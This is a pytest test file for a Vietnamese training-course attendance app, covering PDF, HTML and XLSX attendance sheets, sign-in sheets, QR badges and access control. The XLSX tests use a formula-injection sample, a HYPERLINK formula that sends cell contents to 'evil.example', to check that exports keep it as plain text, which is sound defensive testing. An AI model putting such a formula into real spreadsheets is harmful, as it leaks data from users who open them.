"""The course's papers: the attendance sheet (PDF, HTML, XLSX), the blank sign-in sheet and
the trainee badges. PDFs are read back as text with pdftotext, badges are rendered with
pdftoppm and their QR codes decoded with zbarimg (poppler-utils and zbar-tools)."""

import re
import subprocess
import time
import unicodedata
from datetime import date, datetime, timedelta
from datetime import time as clock_time
from io import BytesIO

import pytest
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader
from reportlab.lib.pagesizes import A4
from sqlalchemy import insert

from training.attendance import badges, checkin, roster, sheet, signin_pdf
from training.attendance.models import Attendance
from training.clock import to_utc
from training.courses import services as courses
from training.courses.enrolment import enrol_many
from training.courses.models import CourseSession, Enrolment
from training.courses.planning import generate_sessions, save_session
from training.extensions import db
from training.people.models import Trainee
from training.vietnamese import name_sort_key

MONDAY = date(2026, 3, 2)
TITLE = "Lớp bồi dưỡng kiến thức thông tin cơ sở năm 2026"
VENUE = "Hội trường UBND huyện Yên Thế"
#: the trainees in the order the sheet must list them: by given name, Vietnamese letter order
#: (a < ă < â, tone after letters: Anh < Ánh), then by family and middle names
IN_ORDER = [
    "Lê Đức Anh",
    "Trần Thị Ánh",
    "Đỗ Văn Ân",
    "Nguyễn Văn Bình",
    "Phạm Thị Hồng Nhung",
    "Hoàng Thị Yến",
]
#: what happens to each trainee at the four sessions: None = nothing recorded
PLAN = {
    "Lê Đức Anh": ["present", "late", "absent", "excused"],
    "Trần Thị Ánh": ["present", "present", "present", "present"],
    "Đỗ Văn Ân": [None, None, None, None],
    "Nguyễn Văn Bình": ["late", None, "excused", "absent"],
    "Phạm Thị Hồng Nhung": ["absent", "absent", None, "present"],
    "Hoàng Thị Yến": ["excused", "present", "late", None],
}
#: (day, start, end) of the four sessions, local time: Monday and Tuesday, morning and afternoon
SLOTS = [
    (MONDAY, clock_time(7, 30), clock_time(11, 0)),
    (MONDAY, clock_time(13, 30), clock_time(16, 30)),
    (MONDAY + timedelta(days=1), clock_time(7, 30), clock_time(11, 0)),
    (MONDAY + timedelta(days=1), clock_time(13, 30), clock_time(16, 30)),
]
SYMBOL = {"present": "x", "late": "M", "absent": "V", "excused": "P", None: ""}
URLS = [
    "/courses/{id}/attendance",
    "/courses/{id}/attendance.pdf",
    "/courses/{id}/attendance.xlsx",
    "/courses/{id}/signin-sheet.pdf",
    "/courses/{id}/badges.pdf",
]


def pdf_text(content: bytes, layout: bool = True) -> str:
    """The text of a PDF (pdftotext), NFC-normalised."""
    args = ["pdftotext", "-enc", "UTF-8"] + (["-layout"] if layout else []) + ["-", "-"]
    out = subprocess.run(args, input=content, capture_output=True, check=True).stdout.decode("utf-8")
    return unicodedata.normalize("NFC", out)


def flat(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture
def course(in_request, units, trainer_a, make_trainee):
    """A CT1 course of district A with four sessions and the six trainees of PLAN, whose
    attendance is recorded through the services: check-ins for present and late (the scan
    time decides), the manual roster for absent and excused."""
    course = courses.create_course(units["A"].id, "CT1", TITLE, VENUE, MONDAY, 40, [trainer_a.id])
    modules = [m.code for m in course.curriculum.modules]
    sessions = [
        save_session(course, None, modules[i % len(modules)], day, start, end, VENUE, trainer_a.id)
        for i, (day, start, end) in enumerate(SLOTS)
    ]
    # Made in another order than the sheet's, so that the sheet has to sort them.
    trainees = {
        name: make_trainee(name, commune="Xã Hồng Kỳ" if i % 2 else "Xã Đồng Kỳ", position="Công chức")
        for i, name in enumerate(reversed(IN_ORDER))
    }
    enrol_many(course, list(trainees.values()))
    courses.change_status(course, "open")  # a course in draft takes no check-ins
    db.session.commit()
    for name, statuses in PLAN.items():
        for session, status in zip(sessions, statuses):
            if status in ("present", "late"):
                minutes = 2 if status == "present" else course.late_after_minutes + 10
                result = checkin.check_in(
                    session, trainees[name].id, "qr_badge", at=session.starts_at + timedelta(minutes=minutes)
                )
                assert result.ok and result.record.status == status
            elif status:
                roster.mark(session, trainees[name], status, "", trainer_a.id)
    db.session.commit()
    return course


# --- the data ---------------------------------------------------------------------------------


def test_sheet_data_lists_trainees_in_vietnamese_order_with_their_marks(course):
    data = sheet.sheet_data(course)
    assert [row.name for row in data.rows] == IN_ORDER
    assert IN_ORDER == sorted(IN_ORDER, key=name_sort_key)
    assert [c.label for c in data.columns] == ["02/03 S", "02/03 C", "03/03 S", "03/03 C"]
    for row in data.rows:
        assert row.marks == [SYMBOL[s] for s in PLAN[row.name]], row.name
        assert row.required == course.curriculum.periods
    anh = data.rows[0]
    # Late counts as attended; excused does not for CT1.
    assert anh.attended == sum(s.periods for s in course.sessions[:2])
    assert len(data.parts) == 1 and data.parts[0].first and data.parts[0].last


def test_many_sessions_are_split_into_parts_of_at_most_twenty():
    parts = sheet.split_parts(list(range(40)), sheet.MAX_SESSIONS_PER_PART)
    assert [len(p.columns) for p in parts] == [20, 20]
    assert [p.first_column for p in parts] == [0, 20]
    assert parts[0].first and not parts[0].last and parts[1].last and not parts[1].first
    assert [len(p.columns) for p in sheet.split_parts(list(range(25)), 20)] == [13, 12]
    assert [len(p.columns) for p in sheet.split_parts(list(range(20)), 20)] == [20]
    assert [len(p.columns) for p in sheet.split_parts([], 20)] == [0]


def test_formula_like_text_is_kept_as_text():
    from openpyxl import Workbook

    from training.spreadsheets import keep_text

    ws = Workbook().active
    for text in ('=HYPERLINK("http://x","y")', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1"):
        cell = ws.cell(row=1, column=1, value=text)
        keep_text(cell)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), text
    for value in ("Nguyễn Văn An", 12, 0.5):
        cell = ws.cell(row=2, column=1, value=value)
        keep_text(cell)
        assert cell.value == value and not cell.quotePrefix


# --- the attendance sheet as PDF ----------------------------------------------------------------


def test_attendance_pdf_lists_names_in_order_with_marks_legend_and_heading(course, login, trainer_a):
    response = login(trainer_a).get(f"/courses/{course.id}/attendance.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    content = response.get_data()
    assert PdfReader(BytesIO(content)).pages[0].mediabox.width > PdfReader(BytesIO(content)).pages[0].mediabox.height
    text = pdf_text(content)
    whole = flat(text)

    # Every name with its diacritics, in Vietnamese order (given name first).
    positions = [whole.find(name) for name in IN_ORDER]
    assert -1 not in positions, [n for n, p in zip(IN_ORDER, positions) if p < 0]
    assert positions == sorted(positions)

    for expected in (
        "UBND HUYỆN YÊN THẾ",
        "PHÒNG VĂN HÓA VÀ THÔNG TIN",
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "DANH SÁCH ĐIỂM DANH HỌC VIÊN",
        TITLE,
        VENUE,
        "Kiến thức cơ bản về công tác thông tin cơ sở",
        "02/03/2026",
        "03/03/2026",
        "Ký hiệu: x - có mặt; M - đi muộn; V - vắng không phép; P - vắng có phép",
        "NGƯỜI LẬP BIỂU",
        "Yên Thế, ngày 03 tháng 3 năm 2026",
        "TRƯỞNG PHÒNG",
        "Ghi chú",
        "Chức vụ",
        "Đơn vị (xã)",
    ):
        assert expected in whole, expected
    # An issued sheet: no bracketed instructions, no signature column for computed figures.
    assert "(Ký" not in whole and "Ký tên" not in whole and "XÁC NHẬN CỦA ĐƠN VỊ" not in whole

    # Each trainee's line carries their marks in session order (blank cells print nothing),
    # then attended/required periods and the share.
    data = {row.name: row for row in sheet.sheet_data(course).rows}
    for name in IN_ORDER:
        line = next(line for line in text.splitlines() if name in line)
        after = line.split(name, 1)[1].split()
        marks = [token for token in after if token in ("x", "M", "V", "P")]
        assert marks == [SYMBOL[s] for s in PLAN[name] if s], name
        assert data[name].periods_label in after and data[name].share_label in after, line


def test_attendance_pdf_session_headings_show_date_and_half_day(course, login, trainer_a):
    text = flat(pdf_text(login(trainer_a).get(f"/courses/{course.id}/attendance.pdf").get_data()))
    assert "02/03" in text and "03/03" in text
    assert re.search(r"\bS C S C\b", text), text[:800]


def make_big_course(units, trainer, trainees: int = 300, sessions: int = 40):
    """A course of `sessions` half-day sessions and `trainees` enrolled trainees with a mark
    everywhere, inserted in bulk (the point is the documents, not the services)."""
    course = courses.create_course(units["A"].id, "CT1", "Lớp đông học viên", VENUE, MONDAY, trainees, [trainer.id])
    modules = [m.code for m in course.curriculum.modules]
    for i in range(sessions):
        day = MONDAY + timedelta(days=i // 2)
        start = clock_time(7, 30) if i % 2 == 0 else clock_time(13, 30)
        starts_at = to_utc(datetime.combine(day, start))
        db.session.add(
            CourseSession(
                course=course,
                module_code=modules[i % len(modules)],
                starts_at=starts_at,
                ends_at=starts_at + timedelta(hours=3),
                periods=4,
                venue=VENUE,
            )
        )
    families = ["Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Huỳnh", "Phan", "Vũ", "Võ", "Đặng", "Bùi", "Đỗ"]
    middles = ["Văn", "Thị", "Đức", "Minh", "Thu", "Quốc", "Ngọc", "Hữu", "Thanh", "Xuân"]
    givens = [
        "An",
        "Ánh",
        "Bình",
        "Châu",
        "Cường",
        "Dũng",
        "Đạt",
        "Giang",
        "Hà",
        "Hải",
        "Hương",
        "Khánh",
        "Lan",
        "Linh",
        "Long",
        "Mai",
        "Nam",
        "Ngân",
        "Oanh",
        "Phúc",
        "Quân",
        "Sơn",
        "Tâm",
        "Thảo",
        "Trang",
        "Tuấn",
        "Uyên",
        "Việt",
        "Xuân",
        "Yến",
    ]
    people, communes = [], [units["Xã Đồng Kỳ"].id, units["Xã Hồng Kỳ"].id, units["Thị trấn Phồn Xương"].id]
    for i in range(trainees):
        name = f"{families[i % len(families)]} {middles[(i // len(families)) % len(middles)]} {givens[i % len(givens)]}"
        people.append(
            Trainee(
                full_name=name,
                birth_date=date(1980, 1, 1) + timedelta(days=i),
                gender="female",
                position="Công chức Văn hóa - Xã hội" if i % 3 else "Phó Chủ tịch Hội Liên hiệp Phụ nữ xã",
                commune_id=communes[i % 3],
                group="commune_broadcast",
            )
        )
    db.session.add_all(people)
    db.session.flush()
    db.session.add_all(Enrolment(course=course, trainee=t) for t in people)
    db.session.flush()
    statuses = ["present", "present", "present", "late", "absent", "excused"]
    db.session.execute(
        insert(Attendance),
        [
            {"session_id": s.id, "trainee_id": t.id, "status": statuses[(i + j) % len(statuses)], "method": "manual"}
            for i, t in enumerate(people)
            for j, s in enumerate(course.sessions)
        ],
    )
    db.session.commit()
    return course, people


@pytest.mark.slow
def test_forty_sessions_and_three_hundred_trainees_render(in_request, units, trainer_a, login):
    course, people = make_big_course(units, trainer_a)
    client = login(trainer_a)

    started = time.perf_counter()
    response = client.get(f"/courses/{course.id}/attendance.pdf")
    pdf_seconds = time.perf_counter() - started
    assert response.status_code == 200
    content = response.get_data()
    pages = len(PdfReader(BytesIO(content)).pages)
    text = flat(pdf_text(content))
    assert "Phần 1/2: buổi 1-20" in text and "Phần 2/2: buổi 21-40" in text
    page = client.get(f"/courses/{course.id}/attendance").get_data(as_text=True)  # the printable page, parted alike
    assert "<h2>Phần 1/2: buổi 1-20" in page and "<h2>Phần 2/2: buổi 21-40" in page
    for person in people:
        assert text.count(person.full_name) >= 2, person.full_name  # once in each part
    # Page numbers centred at the top from page 2: the last page's number stands alone on its first line.
    last_page = pdf_text(content).split("\f")[pages - 1]
    assert last_page.strip().splitlines()[0].strip() == str(pages)

    started = time.perf_counter()
    response = client.get(f"/courses/{course.id}/attendance.xlsx")
    xlsx_seconds = time.perf_counter() - started
    assert response.status_code == 200
    sheet_ = load_workbook(BytesIO(response.get_data())).active
    assert sheet_.max_row >= 9 + 300 and sheet_.max_column == 4 + 40 + 4

    started = time.perf_counter()
    assert client.get(f"/courses/{course.id}/attendance").status_code == 200
    html_seconds = time.perf_counter() - started
    print(f"\n300 × 40: PDF {pdf_seconds:.2f} s ({pages} pages), XLSX {xlsx_seconds:.2f} s, HTML {html_seconds:.2f} s")


# --- the attendance sheet as XLSX ---------------------------------------------------------------


def test_attendance_xlsx_reads_back_with_names_numbers_and_escaped_formulas(course, login, trainer_a, make_trainee):
    sneaky = make_trainee('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', position="+84 912", commune="Xã Đồng Kỳ")
    enrol_many(course, [sneaky])
    db.session.commit()
    response = login(trainer_a).get(f"/courses/{course.id}/attendance.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    book = load_workbook(BytesIO(response.get_data()))
    ws = book.active
    assert len(book.worksheets) == 1

    head = 9
    headers = [ws.cell(head, c).value for c in range(1, ws.max_column + 1)]
    assert headers[:4] == ["STT", "Họ và tên", "Chức vụ", "Đơn vị (xã)"]
    assert headers[4] == "02/03\nS" and headers[7] == "03/03\nC"
    assert ws.freeze_panes == f"C{head + 1}"
    assert ws.print_title_rows.replace("$", "") == f"{head}:{head}"
    assert ws.page_setup.orientation == "landscape" and str(ws.page_setup.paperSize) == str(ws.PAPERSIZE_A4)
    assert ws.cell(head, 1).font.b
    assert "DANH SÁCH ĐIỂM DANH HỌC VIÊN" in [ws.cell(r, 1).value for r in range(1, head)]

    rows = [[ws.cell(r, c) for c in range(1, ws.max_column + 1)] for r in range(head + 1, head + 1 + 7)]
    names = [row[1].value for row in rows]
    escaped = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'  # as typed, kept text by the quote prefix
    assert escaped in names
    assert [n for n in names if n != escaped] == IN_ORDER
    for row in rows:
        assert row[1].data_type == "s" and row[2].data_type == "s"  # never a formula
        assert isinstance(row[0].value, int) and not row[0].quotePrefix
        assert row[1].quotePrefix is (row[1].value == escaped)
        attended, required, share = row[8].value, row[9].value, row[10].value
        assert isinstance(attended, int) and isinstance(required, int) and isinstance(share, (int, float))
        assert share == pytest.approx(attended / required)
        assert row[10].number_format == "0%"
    by_name = {row[1].value: row for row in rows}
    assert (by_name[escaped][1].quotePrefix, by_name[escaped][2].value, by_name[escaped][2].quotePrefix) == (
        True,
        "+84 912",
        True,
    )
    assert [c.value for c in by_name["Lê Đức Anh"][4:8]] == ["x", "M", "V", "P"]
    assert [c.value for c in by_name["Đỗ Văn Ân"][4:8]] == [None] * 4
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)


# --- the HTML page ------------------------------------------------------------------------------


def test_html_sheet_lists_the_trainees_in_order(course, login, trainer_a):
    response = login(trainer_a).get(f"/courses/{course.id}/attendance")
    assert response.status_code == 200
    html = unicodedata.normalize("NFC", response.get_data(as_text=True))
    positions = [html.find(f"<td>{name}</td>") for name in IN_ORDER]
    assert -1 not in positions and positions == sorted(positions)
    assert "DANH SÁCH ĐIỂM DANH HỌC VIÊN" in html and TITLE in html
    assert "<thead>" in html and "size: A4 landscape" in html
    assert f'href="/courses/{course.id}/attendance.pdf"' in html
    assert f'href="/courses/{course.id}/attendance.xlsx"' in html
    assert "Ký hiệu: x - có mặt" in html
    # The print button is wired by static/js/app.js: the CSP forbids inline handlers.
    assert "data-print" in html and "onclick" not in html


def test_course_page_links_the_documents(course, login, trainer_a):
    html = login(trainer_a).get(f"/courses/{course.id}").get_data(as_text=True)
    for url in URLS:
        assert f'href="{url.format(id=course.id)}"' in html, url


# --- the blank sign-in sheet ----------------------------------------------------------------------


def test_signin_sheet_has_every_name_and_a_box_per_session(course, login, trainer_a):
    response = login(trainer_a).get(f"/courses/{course.id}/signin-sheet.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    page = PdfReader(BytesIO(response.get_data())).pages[0]
    assert page.mediabox.width > page.mediabox.height
    text = flat(pdf_text(response.get_data()))
    positions = [text.find(name) for name in IN_ORDER]
    assert -1 not in positions and positions == sorted(positions)
    assert "DANH SÁCH HỌC VIÊN KÝ NHẬN THAM DỰ LỚP BỒI DƯỠNG" in text and TITLE in text and "Ghi chú" in text
    # A blank form: the date left to fill, and how to sign.
    assert "Yên Thế, ngày …… tháng …… năm ……" in text and "THỦ TRƯỞNG CƠ QUAN TỔ CHỨC LỚP" in text
    assert "(Ký, ghi rõ họ tên, đóng dấu)" in text
    assert text.count("Sáng") == 2 and text.count("Chiều") == 2
    # No marks on a blank sheet.
    assert not re.search(r"\b[xMVP]\b", text.split("Đơn vị (xã)", 1)[1].split("NGƯỜI LẬP BIỂU")[0])


def test_signin_sheet_of_many_sessions_has_a_box_per_day(in_request, units, trainer_a, login):
    course, people = make_big_course(units, trainer_a, trainees=12, sessions=24)
    data = sheet.sheet_data(course)
    boxes = signin_pdf.signin_boxes(data)
    assert len(boxes) == 12 and boxes[0].heading == "02/03"
    text = flat(pdf_text(login(trainer_a).get(f"/courses/{course.id}/signin-sheet.pdf").get_data()))
    assert "Phần 1/2" in text and "Phần 2/2" in text
    for person in people:
        assert text.count(person.full_name) == 2


def test_sheets_of_a_course_nobody_has_joined_say_so(in_request, units, trainer_a, login):
    course = courses.create_course(units["A"].id, "CT1", "Lớp chưa có ai", VENUE, MONDAY, 30, [trainer_a.id])
    generate_sessions(course)
    db.session.commit()
    client = login(trainer_a)
    for url in (f"/courses/{course.id}/attendance.pdf", f"/courses/{course.id}/signin-sheet.pdf"):
        response = client.get(url)
        assert response.status_code == 200 and response.mimetype == "application/pdf", url
        assert "Lớp bồi dưỡng chưa có học viên." in flat(pdf_text(response.get_data())), url


# --- badges ----------------------------------------------------------------------------------


def badge_qr_codes(content: bytes, folder, page: int = 1) -> list[list[str]]:
    """The QR codes zbarimg finds on each badge of one page rendered at 150 dpi, badge by badge
    as a phone scans them (zbar reading a whole page of eight codes now and then misses one)."""
    pdf, root = folder / "badges.pdf", folder / f"page-{page}"
    pdf.write_bytes(content)
    subprocess.run(
        ["pdftoppm", "-r", "150", "-f", str(page), "-l", str(page), "-singlefile", "-png", str(pdf), str(root)],
        check=True,
    )
    image, scale = Image.open(root.with_suffix(".png")), 150 / 72
    found = []
    for index in range(badges.PER_PAGE):
        x, y = badges._origin(index)
        top = A4[1] - y - badges.BADGE_H
        cell = folder / f"badge-{page}-{index}.png"
        image.crop(
            (
                round(x * scale),
                round(top * scale),
                round((x + badges.BADGE_W) * scale),
                round((top + badges.BADGE_H) * scale),
            )
        ).save(cell)
        result = subprocess.run(
            ["zbarimg", "--quiet", "--raw", "-Sdisable", "-Sqrcode.enable", str(cell)], capture_output=True
        )
        assert result.returncode in (0, 4), result.stderr
        found.append([line for line in result.stdout.decode().splitlines() if line])
    return found


def test_badges_carry_each_trainees_personal_code(in_request, units, trainer_a, login, tmp_path):
    course, people = make_big_course(units, trainer_a, trainees=11, sessions=2)
    data = sheet.sheet_data(course)
    response = login(trainer_a).get(f"/courses/{course.id}/badges.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    content = response.get_data()
    reader = PdfReader(BytesIO(content))
    assert len(reader.pages) == 2
    assert reader.pages[0].mediabox.height > reader.pages[0].mediabox.width  # portrait

    # Each badge carries its own trainee's code, in the sheet's order; the empty places of the
    # last page carry none.
    codes = [[row.trainee.personal_code] for row in data.rows]
    assert badge_qr_codes(content, tmp_path, 1) == codes[: badges.PER_PAGE]
    assert badge_qr_codes(content, tmp_path, 2) == codes[badges.PER_PAGE :] + [[]] * (2 * badges.PER_PAGE - len(codes))

    text = flat(pdf_text(content, layout=False))
    for row in data.rows[: badges.PER_PAGE]:
        assert row.trainee.personal_code in text
        assert row.commune in text
    # Each badge names the organiser and the course's dates.
    assert text.count("PHÒNG VĂN HÓA VÀ THÔNG TIN") == len(codes)
    assert text.count(data.dates) == len(codes)
    for row in data.rows:
        # Long names may wrap onto two lines; every word is there.
        assert all(word in text for word in row.name.split())


def test_badge_names_wrap_and_shrink_rather_than_overflow(in_request):
    from reportlab.lib.units import mm

    long_name = "Tôn Nữ Thị Phương Thảo Nguyên Hoàng Bảo Châu"
    paragraph = badges._name_paragraph(long_name, 45 * mm, 18 * mm)
    assert paragraph.wrap(45 * mm, 1000)[1] <= 18 * mm
    assert paragraph.style.fontSize < badges.NAME_SIZES[0]
    short = badges._name_paragraph("Lê An", 45 * mm, 18 * mm)
    assert short.style.fontSize == badges.NAME_SIZES[0]


# --- who may open them ----------------------------------------------------------------------------


def test_a_trainer_of_another_district_is_refused_every_document(course, login, trainer_b):
    client = login(trainer_b)
    for url in URLS:
        assert client.get(url.format(id=course.id)).status_code == 403, url


def test_anonymous_visitors_are_sent_to_sign_in(course, client):
    for url in URLS:
        response = client.get(url.format(id=course.id))
        assert response.status_code == 302, url
        assert "/login" in response.headers["Location"], url


def test_admin_may_open_every_document(course, login, admin):
    client = login(admin)
    for url in URLS:
        assert client.get(url.format(id=course.id)).status_code == 200, url
